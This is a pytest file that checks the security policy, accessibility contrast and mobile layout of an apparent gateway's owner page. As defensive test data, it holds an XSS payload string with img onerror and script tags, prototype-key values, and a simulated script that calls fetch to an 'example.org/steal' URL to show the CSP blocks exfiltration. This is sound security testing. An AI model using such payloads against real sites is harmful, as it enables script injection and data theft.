"""The files of the owner's page, their security policy, and how they look in a real browser."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest

from hereish.gateway.http.owner_page import FILES, HEADERS
from tests.support.page_stage import (
    DESKTOP,
    MARKS,
    ROWS,
    Stage,
    Visit,
    names,
    release,
    signed_in,
    staged,
    text,
    visited,
)

if TYPE_CHECKING:
    from playwright.sync_api import Browser


HOSTILE = "</p><img src=x onerror=alert(1)><script>alert(2)</script>"


PHONE: dict[str, Any] = {
    "viewport": {"width": 360, "height": 780},
    "has_touch": True,
    "is_mobile": True,
}


def test_every_address_in_the_page_is_relative_and_served() -> None:
    page = FILES["/"].content.decode()
    named = re.findall(r'(?:src|href)="([^"]*)"', page)
    scripts = [FILES[f"/{name}"].content.decode() for name in named if name.endswith(".js")]
    imported = [
        name
        for script in [*scripts, FILES["/map.js"].content.decode()]
        for name in re.findall(r'from "\./([^"]*)"', script)
    ]
    assert {f"/{name}" for name in [*named, *imported]} | {"/"} == set(FILES)


def test_the_page_holds_no_inline_script_or_style() -> None:
    page = FILES["/"].content.decode()
    assert re.findall(r"<style|\sstyle=|\son\w+=|javascript:", page) == []
    assert re.findall(r"<script(?![^>]*\bsrc=)", page) == []


def test_no_script_makes_markup_from_text() -> None:
    makers = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function|cssText"
    for path, file in FILES.items():
        assert re.findall(makers, file.content.decode()) == [], path


def test_the_policy_allows_the_gateway_and_nobody_else() -> None:
    policy = dict(
        part.strip().partition(" ")[::2] for part in HEADERS["Content-Security-Policy"].split(";")
    )
    assert policy["default-src"] == "'none'"
    for name in ("script-src", "style-src", "connect-src"):
        assert policy[name] == "'self'"
    for name in ("base-uri", "form-action", "frame-ancestors"):
        assert policy[name] == "'none'"
    assert "unsafe" not in HEADERS["Content-Security-Policy"]
    assert HEADERS["X-Content-Type-Options"] == "nosniff"
    assert HEADERS["Referrer-Policy"] == "no-referrer"


def test_the_policy_stops_what_a_foreign_script_would_try(look: Visit) -> None:
    """That nothing is found elsewhere means something: here something is tried and found."""
    look.page.evaluate(
        """() => {
          fetch("https://example.org/steal").catch(() => {});
          new Image().src = "https://example.org/steal.png";
          try { document.body.innerHTML = "<b>x</b>"; } catch {}
        }"""
    )
    look.until(lambda: len(look.violations) >= 3)
    told = " ".join(look.violations)
    assert "connect-src" in told
    assert "img-src" in told
    assert "require-trusted-types-for" in told
    look.page.evaluate("window.violations = []")
    look.said.clear()
    look.requests.clear()


def test_it_works_under_a_prefix(browser: Browser) -> None:
    with staged("/far/away") as stage, visited(browser, stage, **DESKTOP) as look:
        signed_in(look)
        assert look.page.locator(MARKS).count() == len(stage.history)


def hostile(stage: Stage) -> None:
    stage.budget.update(user=HOSTILE, device=HOSTILE, window=HOSTILE, guarantee=HOSTILE)
    stage.devices.update(day=HOSTILE, devices=[{"device": HOSTILE, "points_today": 1}])
    kinds = [HOSTILE, "constructor", "__proto__"]
    stage.history = [
        release(60 + i / 100, 24, i, kind=kind, device=HOSTILE, window=HOSTILE)
        for i, kind in enumerate(kinds)
    ][::-1]


def test_hostile_texts_are_shown_as_texts(look: Visit, stage: Stage) -> None:
    hostile(stage)
    signed_in(look)
    assert HOSTILE in text(look, "#guarantee")
    assert HOSTILE in text(look, "#who")
    assert names(look.page.locator("#devices td"))[0] == HOSTILE
    assert names(look.page.locator("#releases .name")) == [HOSTILE] * 3
    assert names(look.page.locator("#releases .kind")) == ["other"] * 3
    assert look.page.locator(MARKS).count() == 3
    assert look.page.locator("img").count() == 1  # our own
    assert look.page.locator("script").count() == 1


@pytest.mark.parametrize("name", ["phone", HOSTILE, "x" * 300])
def test_a_phone_needs_no_sideways_scrolling(browser: Browser, stage: Stage, name: str) -> None:
    stage.devices["devices"][0]["device"] = name
    stage.budget["user"] = name
    stage.budget["device"] = name
    stage.history = [{**one, "device": name} for one in stage.history]
    with visited(browser, stage, **PHONE) as look:
        fits = "document.scrollingElement.scrollWidth <= innerWidth && innerWidth === 360"
        assert look.page.evaluate(fits)
        signed_in(look)
        assert look.page.evaluate(fits)
        box = "document.getElementById('releases-box')"
        assert look.page.evaluate(f"{box}.scrollWidth <= {box}.clientWidth")
        assert look.page.locator(ROWS).first.is_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_texts_stand_out_from_what_is_behind_them(
    browser: Browser, stage: Stage, scheme: str
) -> None:
    """The contrast that the accessibility guidelines ask of small text: 4.5 to 1."""
    stage.budget["exhausted"] = True
    with visited(browser, stage, color_scheme=scheme, **DESKTOP) as look:
        assert contrast(look, "#sign-in", "#sign-in") >= 4.5
        signed_in(look)
        for words in (".about", "#left", "td", "th", "#legend li", "#readout"):
            assert contrast(look, f"#content {words}", ".card") >= 4.5, words
        assert contrast(look, "#exhausted", "#exhausted") >= 4.5
        assert contrast(look, "#updated", "body") >= 4.5


def contrast(look: Visit, words: str, behind: str) -> float:
    ink = look.page.evaluate(f"getComputedStyle(document.querySelector('{words}')).color")
    paper = look.page.evaluate(
        f"getComputedStyle(document.querySelector('{behind}')).backgroundColor"
    )
    dark, light = sorted(map(_luminance, (ink, paper)))
    return (light + 0.05) / (dark + 0.05)


def _luminance(colour: str) -> float:
    parts = [int(part) / 255 for part in re.findall(r"\d+", colour)[:3]]
    red, green, blue = (
        part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
